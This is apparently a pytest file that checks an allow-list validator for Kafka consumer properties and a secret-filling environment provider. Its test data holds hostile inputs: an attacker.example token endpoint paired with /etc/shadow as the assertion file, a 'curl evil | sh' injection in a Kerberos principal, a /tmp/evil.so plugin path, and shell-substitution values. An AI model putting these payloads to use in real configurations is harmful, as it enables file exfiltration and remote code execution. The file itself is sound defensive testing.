"""consumerProperties are an allow-list: each attack that worked against the old deny-list is refused
naming its path, what a consumer needs to reach and authenticate to a broker is accepted, operators
extend the list by configuration, and the environment provider fills only secrets, only for allowed
brokers. Needs no infrastructure.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from indexing_task.reader import resolved_consumer_properties
from specs import (
    ConsumerPropertiesPolicy,
    SpecError,
    consumer_property_errors,
    environment_secret_values,
    load_supervisor_spec,
)
from specs.spec_errors import join_path, key_path
from tests.helpers import example_json, spec_json

OPERATOR_VARIABLES = ("OVERLORD_CONSUMER_PROPERTIES_ALLOWED", "OVERLORD_ALLOWED_TOKEN_ENDPOINTS",
                      "OVERLORD_ALLOWED_BOOTSTRAP", "OVERLORD_KAFKA_BOOTSTRAP_SERVERS")
PROVIDER = "druid.dynamic.config.provider"
CA = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ\n-----END CERTIFICATE-----\n"
KEY = "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49\n-----END PRIVATE KEY-----\n"


@pytest.fixture(autouse=True)
def _no_operator_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in OPERATOR_VARIABLES:
        monkeypatch.delenv(name, raising=False)


def path_of(key: str) -> str:
    return join_path("spec.ioConfig.consumerProperties", key_path(key))


def refusals(properties: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(SpecError) as refused:
        load_supervisor_spec(spec_json("ds", "topic", consumerProperties=properties))
    return dict(refused.value.errors)


def accepted(properties: dict[str, Any]) -> dict[str, Any]:
    spec = load_supervisor_spec(spec_json("ds", "topic", consumerProperties=properties))
    return spec.spec.io_config.consumer_properties


# --------------------------------------------------------------------------- attacks


ATTACKS: dict[str, tuple[dict[str, Any], list[str]]] = {
    # made librdkafka POST a server file to the attacker
    "oidc-assertion-file": ({
        "bootstrap.servers": "b:9092", "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER",
        "sasl.oauthbearer.method": "oidc", "sasl.oauthbearer.token.endpoint.url": "http://attacker.example/token",
        "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
        "sasl.oauthbearer.assertion.file": "/etc/shadow",
    }, ["sasl.oauthbearer.token.endpoint.url", "sasl.oauthbearer.grant.type", "sasl.oauthbearer.assertion.file"]),
    "assertion-private-key-file": ({"sasl.oauthbearer.assertion.private.key.file": "/etc/ssl/private/server.key"},
                                   ["sasl.oauthbearer.assertion.private.key.file"]),
    "jwt-template-file": ({"sasl.oauthbearer.assertion.jwt.template.file": "/etc/passwd"},
                          ["sasl.oauthbearer.assertion.jwt.template.file"]),
    "azure-imds": ({"sasl.oauthbearer.metadata.authentication.type": "azure_imds"},
                   ["sasl.oauthbearer.metadata.authentication.type"]),
    "kerberos-principal-in-kinit": ({"sasl.mechanism": "GSSAPI", "sasl.kerberos.principal": 'x"; curl evil | sh; "'},
                                    ["sasl.mechanism", "sasl.kerberos.principal"]),
    "debug-all": ({"debug": "all"}, ["debug"]),
    "client-secret-alias": ({"sasl.oauthbearer.client.credentials.client.secret": "s"},
                            ["sasl.oauthbearer.client.credentials.client.secret"]),
    "crl-file": ({"ssl.crl.location": "/etc/passwd"}, ["ssl.crl.location"]),
    "keystore": ({"ssl.keystore.location": "/etc/keystore.p12"}, ["ssl.keystore.location"]),
    "unsecured-jwt": ({"enable.sasl.oauthbearer.unsecure.jwt": True}, ["enable.sasl.oauthbearer.unsecure.jwt"]),
    "plugin": ({"plugin.library.paths": "/tmp/evil.so"}, ["plugin.library.paths"]),
    "java-jaas": ({"sasl.jaas.config": "PlainLoginModule required;"}, ["sasl.jaas.config"]),
}


@pytest.mark.parametrize(("properties", "keys"), list(ATTACKS.values()), ids=list(ATTACKS))
def test_each_attack_is_refused_naming_the_property(properties: dict[str, Any], keys: list[str]) -> None:
    errors = refusals(properties)
    assert sorted(errors) == sorted(path_of(key) for key in keys), errors
    for key in keys:
        if key not in ("sasl.oauthbearer.token.endpoint.url", "sasl.mechanism"):
            assert "not on the allow-list" in errors[path_of(key)] and "OVERLORD_CONSUMER_PROPERTIES_ALLOWED" in (
                errors[path_of(key)])


def test_a_token_endpoint_must_be_one_the_operator_allows(monkeypatch: pytest.MonkeyPatch) -> None:
    oauth = {"bootstrap.servers": "b:9092", "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER",
             "sasl.oauthbearer.method": "oidc", "sasl.oauthbearer.client.id": "indexer",
             "sasl.oauthbearer.client.secret": "s3cret", "sasl.oauthbearer.scope": "kafka read",
             "sasl.oauthbearer.extensions": "logicalCluster=lkc-1,identityPoolId=pool-2"}
    endpoint = "sasl.oauthbearer.token.endpoint.url"
    url = "https://idp.example.com/realms/kafka/token"
    message = refusals({**oauth, endpoint: url})[path_of(endpoint)]
    assert "not an allowed token endpoint" in message and "OVERLORD_ALLOWED_TOKEN_ENDPOINTS" in message

    monkeypatch.setenv("OVERLORD_ALLOWED_TOKEN_ENDPOINTS", "https://idp.example.com/realms/, https://other/token")
    assert accepted({**oauth, endpoint: url})[endpoint] == url
    assert accepted({**oauth, endpoint: "https://other/token"})
    for bad in ("https://idp.example.com.attacker.net/realms/x", "https://idp.example.com/realms/../admin",
                "https://other/token2", "https://user@idp.example.com/realms/x", "file:///etc/passwd"):
        assert list(refusals({**oauth, endpoint: bad})) == [path_of(endpoint)], bad
    assert list(refusals({**oauth, endpoint: url, "sasl.oauthbearer.method": "default"})) == [
        path_of("sasl.oauthbearer.method"), path_of("sasl.mechanism")]
    assert list(refusals({k: v for k, v in oauth.items() if k != "sasl.oauthbearer.method"})) == [
        path_of("sasl.mechanism")]


# --------------------------------------------------------------------------- what is allowed, and its values


def test_a_sasl_scram_spec_is_accepted() -> None:
    properties = {"bootstrap.servers": "SASL_SSL://k1.example.com:9093,k2.example.com:9093",
                  "security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-512", "sasl.username": "indexer",
                  "sasl.password": "pa ss;word", "client.id": "druid-indexer", "client.rack": "eu-west-1a",
                  "session.timeout.ms": 30000, "socket.timeout.ms": "60000", "socket.keepalive.enable": True,
                  "fetch.max.bytes": 52428800, "queued.max.messages.kbytes": 65536, "broker.address.family": "v4",
                  "reconnect.backoff.max.ms": 10000, "isolation.level": "read_committed"}
    assert accepted(properties) == properties


def test_a_tls_spec_with_pem_text_is_accepted() -> None:
    properties = {"bootstrap.servers": "k:9093", "security.protocol": "ssl", "ssl.ca.pem": CA,
                  "ssl.certificate.pem": CA, "ssl.key.pem": KEY, "ssl.key.password": "key-pass",
                  "ssl.endpoint.identification.algorithm": "https", "enable.ssl.certificate.verification": "true",
                  "ssl.cipher.suites": "ECDHE-RSA-AES256-GCM-SHA384:!aNULL"}
    assert accepted(properties) == properties


@pytest.mark.parametrize(("key", "value", "fragment"), [
    ("socket.timeout.ms", 5, "from 10 to 300000"),
    ("fetch.max.bytes", "lots", "integer"),
    ("session.timeout.ms", True, "integer"),
    ("security.protocol", "sasl_gssapi", "one of"),
    ("sasl.mechanism", "GSSAPI", "one of"),
    ("broker.address.family", "v5", "one of"),
    ("socket.keepalive.enable", "yes", "true or false"),
    ("client.id", "x$(id)", "letters, digits"),
    ("client.rack", "a" * 300, "1 to 255"),
    ("ssl.ca.pem", "/etc/ssl/certs/ca.pem", "PEM text"),
    ("ssl.key.pem", "-----BEGIN PRIVATE KEY-----\x07", "PEM text"),
    ("sasl.password", "line\nbreak", "control characters"),
    ("sasl.username", 7, "expected a string"),
    ("bootstrap.servers", "b:9092;touch /tmp/x", "host:port"),
    ("bootstrap.servers", "b:99999", "host:port"),
    ("sasl.oauthbearer.extensions", "trace-id=1", "key=value"),
    ("sasl.oauthbearer.scope", 'read "all"', "scope tokens"),
])
def test_values_are_checked(key: str, value: Any, fragment: str) -> None:
    errors = refusals({key: value})
    assert list(errors) == [path_of(key)] and fragment in errors[path_of(key)], errors


def test_secret_values_are_not_repeated_in_refusals() -> None:
    errors = refusals({"sasl.password": "hunter2-\x01", "ssl.key.pem": "hunter3-not-pem"})
    assert "hunter" not in str(errors)


def test_the_exact_read_keys_keep_their_rule() -> None:
    assert "exact range read" in refusals({"isolation.level": "read_uncommitted"})[path_of("isolation.level")]
    assert accepted({"auto.offset.reset": "error", "enable.auto.commit": "false"})


# --------------------------------------------------------------------------- operator extension


def test_operators_extend_the_list_by_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    extra = {"sasl.kerberos.service.name": "kafka", "topic.metadata.refresh.sparse": True}
    assert sorted(refusals(extra)) == sorted(path_of(k) for k in extra)
    monkeypatch.setenv("OVERLORD_CONSUMER_PROPERTIES_ALLOWED",
                       " sasl.kerberos.service.name,topic.metadata.refresh.sparse")
    assert accepted(extra) == extra
    for shell in ("kafka; id", "$(id)", "`id`", "a b", "x\ny"):
        errors = refusals({"sasl.kerberos.service.name": shell})
        assert list(errors) == [path_of("sasl.kerberos.service.name")] and "shell" in str(errors), shell
    assert list(refusals({"debug": "all"})) == [path_of("debug")]  # still off the list


def test_the_policy_can_be_given_instead_of_read_from_the_environment() -> None:
    policy = ConsumerPropertiesPolicy(extra_keys=frozenset({"debug"}))
    assert consumer_property_errors({"debug": "broker"}, policy) == []
    assert [path for path, _ in consumer_property_errors({"debug": "broker"}, ConsumerPropertiesPolicy())] == [
        "debug"]
    assert ConsumerPropertiesPolicy.from_environment({"OVERLORD_ALLOWED_BOOTSTRAP": "K1:9092, ssl://k2:9093"}) == (
        ConsumerPropertiesPolicy(allowed_brokers=frozenset({"k1:9092", "k2:9093"})))


# --------------------------------------------------------------------------- the environment provider


def provider(**variables: str) -> dict[str, Any]:
    return {"type": "environment", "variables": variables}


def provider_path(key: str = "") -> str:
    base = path_of(PROVIDER)
    return join_path(join_path(base, "variables"), key_path(key)) if key else base


def test_the_provider_refuses_a_non_secret_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "attacker.example:9092")
    errors = refusals({"bootstrap.servers": "attacker.example:9092",
                       PROVIDER: provider(**{"client.id": "OVERLORD_SECRET_KAFKA_PASSWORD"})})
    assert list(errors) == [provider_path("client.id")] and "only secrets" in errors[provider_path("client.id")]


def test_the_provider_sends_secrets_only_to_allowed_brokers(monkeypatch: pytest.MonkeyPatch) -> None:
    properties = {"bootstrap.servers": "k1:9092,attacker.example:9092", "sasl.mechanism": "PLAIN",
                  "sasl.username": "indexer", PROVIDER: provider(**{"sasl.password": "OVERLORD_SECRET_KAFKA_PASSWORD"})}
    message = refusals(properties)[provider_path()]
    assert "OVERLORD_ALLOWED_BOOTSTRAP" in message and "attacker.example:9092" in message
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "k1:9092,k2:9092")
    assert list(refusals(properties)) == [provider_path()]
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "k1:9092,ATTACKER.example:9092")
    assert accepted(properties) == properties


def test_the_provider_uses_the_service_brokers_when_the_spec_names_none(monkeypatch: pytest.MonkeyPatch) -> None:
    properties = {PROVIDER: provider(**{"sasl.password": "OVERLORD_SECRET_KAFKA_PASSWORD"})}
    assert "give bootstrap.servers" in refusals(properties)[provider_path()]
    monkeypatch.setenv("OVERLORD_KAFKA_BOOTSTRAP_SERVERS", "kafka:9092")
    assert "not listed: kafka:9092" in refusals(properties)[provider_path()]
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "kafka:9092")
    assert accepted(properties) == properties


def test_the_provider_fills_secrets_for_an_allowed_broker(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "k:9093")
    monkeypatch.setenv("OVERLORD_SECRET_KAFKA_PASSWORD", "s3cret-from-env")
    monkeypatch.setenv("OVERLORD_SECRET_TLS_KEY", KEY)
    variables = {"sasl.password": "OVERLORD_SECRET_KAFKA_PASSWORD", "ssl.key.pem": "OVERLORD_SECRET_TLS_KEY"}
    spec = load_supervisor_spec(spec_json("ds", "topic", consumerProperties={
        "bootstrap.servers": "k:9093", "security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-256",
        "sasl.username": "indexer", PROVIDER: provider(**variables)}))
    properties = spec.spec.io_config.consumer_properties
    assert resolved_consumer_properties(properties) == {
        "bootstrap.servers": "k:9093", "security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-256",
        "sasl.username": "indexer", "sasl.password": "s3cret-from-env", "ssl.key.pem": KEY}
    assert environment_secret_values(properties[PROVIDER]) == {"s3cret-from-env", KEY}

    monkeypatch.setenv("OVERLORD_SECRET_TLS_KEY", "/etc/ssl/private/key.pem")  # not PEM: refused, not shown
    with pytest.raises(SpecError) as refused:
        resolved_consumer_properties(properties)
    [(path, message)] = refused.value.errors
    assert path == provider_path("ssl.key.pem") and "/etc/ssl" not in message and "OVERLORD_SECRET_TLS_KEY" in message


@pytest.mark.parametrize(("variables", "key", "fragment"), [
    ({"sasl.password": "AWS_SECRET_ACCESS_KEY"}, "sasl.password", "OVERLORD_SECRET_"),
    ({"sasl.password": "OVERLORD_SECRET_lower"}, "sasl.password", "OVERLORD_SECRET_"),
    ({"sasl.username": "OVERLORD_SECRET_USER"}, "sasl.username", "also set"),
    ({"bootstrap.servers": "OVERLORD_SECRET_X"}, "bootstrap.servers", "only secrets"),
    ({"sasl.oauthbearer.token.endpoint.url": "OVERLORD_SECRET_X"}, "sasl.oauthbearer.token.endpoint.url",
     "only secrets"),
])
def test_provider_variables_are_checked(monkeypatch: pytest.MonkeyPatch, variables: dict[str, str], key: str,
                                        fragment: str) -> None:
    monkeypatch.setenv("OVERLORD_ALLOWED_BOOTSTRAP", "b:9092")
    errors = refusals({"bootstrap.servers": "b:9092", "sasl.username": "u", PROVIDER: provider(**variables)})
    assert list(errors) == [provider_path(key)] and fragment in errors[provider_path(key)], errors


# --------------------------------------------------------------------------- the reader checks again


def test_the_reader_refuses_properties_off_the_list_of_a_spec_stored_before(monkeypatch: pytest.MonkeyPatch) -> None:
    stored = {"bootstrap.servers": "b:9092", "debug": "all", "sasl.oauthbearer.assertion.file": "/etc/shadow"}
    with pytest.raises(SpecError) as refused:
        resolved_consumer_properties(stored)  # as a spec model built without validation would hold them
    assert sorted(path for path, _ in refused.value.errors) == sorted(
        [path_of("debug"), path_of("sasl.oauthbearer.assertion.file")])
    with pytest.raises(SpecError):
        resolved_consumer_properties({"bootstrap.servers": "evil:9092",
                                      PROVIDER: provider(**{"client.id": "OVERLORD_SECRET_KAFKA_PASSWORD"})})
    assert resolved_consumer_properties({"bootstrap.servers": "b:9092", "fetch.min.bytes": 1}) == {
        "bootstrap.servers": "b:9092", "fetch.min.bytes": 1}


def test_values_the_environment_provider_reads_are_scrubbed_like_inline_secrets(monkeypatch):
    from overlord.http.redact import SecretRegistry

    monkeypatch.setenv("OVERLORD_SECRET_KAFKA_PASSWORD", "s3cr3t-from-env")
    spec = {"spec": {"ioConfig": {"consumerProperties": {"druid.dynamic.config.provider": {
        "type": "environment", "variables": {"sasl.password": "OVERLORD_SECRET_KAFKA_PASSWORD"}}}}}}
    scrubbed = SecretRegistry.of([spec]).scrub("auth failed for password s3cr3t-from-env")
    assert "s3cr3t-from-env" not in scrubbed


def test_a_masked_secret_sent_back_keeps_the_stored_one_and_is_refused_without_one():
    """GET shows ``<masked>``; POSTing that spec back stored the literal ``<masked>`` as the password."""
    from specs.masked import MASK, keep_masked_secrets

    stored = example_json("events")
    stored["spec"]["ioConfig"]["consumerProperties"] = {"sasl.username": "u", "sasl.password": "hunter2"}
    edited = json.loads(json.dumps(stored))
    edited["spec"]["ioConfig"]["consumerProperties"]["sasl.password"] = MASK
    kept = keep_masked_secrets(edited, stored)
    assert kept["spec"]["ioConfig"]["consumerProperties"] == {"sasl.username": "u", "sasl.password": "hunter2"}
    with pytest.raises(SpecError) as refused:
        keep_masked_secrets(edited, None)
    assert [path for path, _ in refused.value.errors] == ['spec.ioConfig.consumerProperties["sasl.password"]']
    flat = {"type": "kafka", **edited["spec"]}
    assert keep_masked_secrets(flat, stored)["ioConfig"]["consumerProperties"]["sasl.password"] == "hunter2"
